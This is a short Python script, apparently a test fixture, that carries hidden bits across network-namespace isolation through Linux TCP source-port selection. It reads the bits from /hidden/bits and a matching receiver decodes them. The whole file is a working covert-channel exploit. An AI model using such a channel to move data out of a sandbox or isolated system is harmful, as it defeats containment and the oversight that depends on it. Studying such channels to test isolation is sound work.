"""A hostile system that passes hidden bits through TCP source ports, and one that reads them. Standard library only.

Linux chooses a source port from a hash of the addresses, plus a counter from a table that all network namespaces share;
each connection moves its counter by 2 to 16. The key of the hash changes every ten seconds. ``send`` waits for a new key
and connects to one address for each bit of ``/hidden/bits``, until the port lies in a block of 64 with the wanted parity.
``receive`` prints the parity of the block of one port for each address, as JSON.
"""

import json
import socket
import sys
import time

PORT = 4000
KEY_SECONDS = 10
BLOCK, LONGEST_STEP = 64, 16


def source_port(number):
    with socket.socket() as sock:
        sock.setblocking(False)
        sock.connect_ex((f"127.1.{number >> 8}.{number & 255}", PORT))
        return sock.getsockname()[1]


def wait_for_new_key():
    probe = 65_000
    before = source_port(probe)
    end = time.monotonic() + 2 * KEY_SECONDS
    while time.monotonic() < end:
        port = source_port(probe)
        if not 0 < port - before <= LONGEST_STEP:
            return
        before = port
        time.sleep(0.05)
    sys.exit("the key did not change")


server = socket.create_server(("0.0.0.0", PORT), backlog=1)
if sys.argv[1] == "send":
    with open("/hidden/bits") as file:
        bits = file.read()
    wait_for_new_key()
    for number, bit in enumerate(bits):
        while True:
            block, offset = divmod(source_port(number), BLOCK)
            if block % 2 == int(bit) and offset < BLOCK - LONGEST_STEP:
                break
else:
    print(json.dumps("".join(str(source_port(number) // BLOCK % 2) for number in range(int(sys.argv[2])))))
